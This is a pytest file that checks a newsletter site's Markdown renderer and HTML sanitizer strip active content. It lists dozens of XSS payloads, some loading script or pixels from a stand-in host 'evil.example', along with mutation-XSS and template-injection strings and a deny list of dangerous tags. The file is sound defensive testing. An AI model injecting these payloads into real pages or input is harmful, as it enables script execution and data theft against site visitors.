"""What strangers write never acts on a reader's machine."""

import html
import re

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown import Markdown

from build.content import settings
from build.content.model import CHINESE, ENGLISH
from build.content.render import Renderer
from build.content.sanitizer import clean_html, clean_inline
from build.site.pages import heading
from tests.newsletter import NEWSLETTER

# Own attacks after the families of the OWASP XSS filter evasion sheet, as Markdown: raw HTML and Markdown's own ways.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvA\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:x>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "text {onclick=alert(1)}",
    "# heading {: onclick=alert(1) style=position:fixed }",
    "paragraph\n{: onmouseover=alert(1) }",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q type=text><button>x</button></form>",
    "<input type=image src=https://evil.example/x.png>",
    "<video src=https://evil.example/x.mp4 autoplay></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<div markdown=1><script>alert(1)</script></div>",
    "`<script>` and ``` <img onerror=1> ```",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "{{ config }} {% include 'x' %} {# x #} {{ ''.__class__ }}",
    "[{{ config }}](https://example.org/?{{ config }})",
    '<p id="__search" class="md-search">x</p>',
    "<img src='//evil.example/x.png'><img src='/\\evil.example'>",
    "*[x]: <script>alert(1)</script>\n\nx",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
    '--8<-- "mkdocs.yml"',
]
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "button", "link", "meta", "base"}


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer(settings.load(NEWSLETTER))


def assert_harmless(cleaned: str) -> None:
    assert not re.search(r"\{[{%#]", cleaned)
    for element in lxml.html.fragment_fromstring(cleaned, create_parent="div").iter():
        assert element.tag not in FORBIDDEN
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert name != "style"
            if name == "href":
                assert re.match(r"(https?://|mailto:|[#?./\w])", value)
                assert not re.match(r"\s*(?!https?:|mailto:)[a-z][\w+.-]*\s*:", value, re.IGNORECASE)
            if name == "src":
                assert not re.match(r"\s*([a-z][\w+.-]*:|[/\\])", value, re.IGNORECASE)
            if name == "id":
                assert not value.startswith("__search")


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "--8<--" not in attack])
def test_an_attack_in_markdown_leaves_nothing_that_acts(renderer: Renderer, attack: str) -> None:
    rendered = renderer.html(attack)
    assert_harmless(rendered)
    assert clean_html(rendered) == rendered


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_headline_leaves_nothing_that_acts(attack: str) -> None:
    assert_harmless(clean_inline(attack))


@given(st.text(alphabet="<>/=\"'` {}%#&;:abconscriptjavimgsrhef!-\\\n\t", max_size=80))
def test_any_text_is_harmless_and_clean_twice_equals_clean_once(text: str) -> None:
    cleaned = clean_html(text)
    assert_harmless(cleaned)
    assert clean_html(cleaned) == cleaned


def test_what_contributors_need_survives(renderer: Renderer) -> None:
    text = (
        "**bold** *em* `code` [link](https://example.org 'Title') ~~gone~~ H~2~O x^2^ ==mark==\n\n"
        '| a | b |\n|---|---|\n| 1 | 2 |\n\n!!! note "Title"\n    Text\n\n- [x] done\n\nTerm\n:   Detail\n\n'
        '=== "Tab"\n    Inside\n\nA note.[^1]\n\n[^1]: The note.\n\n![Alt](../../images/x.png)\n'
    )
    root = lxml.html.fragment_fromstring(renderer.html(text), create_parent="div")
    for wanted in (
        ".//strong", ".//em", ".//code", ".//a[@href='https://example.org'][@title='Title']", ".//del", ".//sub",
        ".//sup",
        ".//mark", ".//table//td", ".//div[@class='admonition note']/p[@class='admonition-title']",
        ".//input[@type='checkbox'][@checked]", ".//dl/dd", ".//div[@class='tabbed-set tabbed-alternate']",
        ".//li[@id='fn:1']", ".//img[@src='../../images/x.png'][@alt='Alt']",
    ):  # fmt: skip
        assert root.find(wanted) is not None, wanted


@pytest.mark.parametrize(
    ("kept", "dropped"),
    [
        (
            '<ol start="7" type="a"><li value="-3">x</li></ol>',
            f'<ol start="{"9" * 5000}" type="x"><li value="1e9">x</li></ol>',
        ),
        ('<td colspan="12" rowspan="3">x</td>', '<td colspan="1000" rowspan="65534">x</td>'),
        ('<td align="right">x</td>', '<td align="top">x</td>'),
        ('<p dir="auto" lang="zh-Hans">x</p>', '<p dir="rtl" lang="x y">x</p>'),
        ('<time datetime="2025-12-01">x</time>', '<time datetime="<b>">x</time>'),
        ('<img src="x.png" width="640" height="480">', '<img src="x.png" width="1000000" height="100%">'),
    ],
    ids=lambda html: html[:12],
)
def test_numbers_and_words_of_attributes_are_some(kept: str, dropped: str) -> None:
    table = ("<table><tbody><tr>", "</tr></tbody></table>") if kept.startswith("<td") else ("", "")
    assert clean_html(kept.join(table)) == kept.join(table)
    (element,) = lxml.html.fragments_fromstring(clean_html(dropped.join(table)))
    assert all(set(part.attrib) <= {"src"} for part in element.iter())


def test_an_admonition_without_a_title_speaks_the_language_of_its_page(renderer: Renderer) -> None:
    assert '<p class="admonition-title">说明</p>' in renderer.html("!!! note\n    文字", CHINESE)
    assert "<summary>注意</summary>" in renderer.html("??? warning\n    文字", CHINESE)
    assert '<p class="admonition-title">Note</p>' in renderer.html("!!! note\n    Text", ENGLISH)
    assert '<p class="admonition-title">自己的</p>' in renderer.html('!!! note "自己的"\n    文字', CHINESE)


def test_code_keeps_its_title_and_its_colours(renderer: Renderer) -> None:
    html = renderer.html('```python title="a.py"\nimport os\n```')
    assert '<span class="filename">a.py</span>' in html
    assert '<span class="kn">import</span>' in html


@given(st.text(st.characters(exclude_categories=("Cc", "Cs", "Cn")), max_size=60))
def test_a_headline_survives_the_renderer_as_the_text_it_was(text: str) -> None:
    clean = clean_inline(html.escape(text))
    said = lxml.html.fragment_fromstring(clean, create_parent="div").text_content()
    rendered = Markdown(extensions=["md_in_html"]).convert(f'<h2 id="item-1" markdown="span">{heading(clean)}</h2>')
    root = lxml.html.fragment_fromstring(rendered, create_parent="div")
    if said.strip():
        assert [child.tag for child in root] == ["h2"]
        assert root[0].get("id") == "item-1"
        assert " ".join(root[0].text_content().split()) == " ".join(said.split())
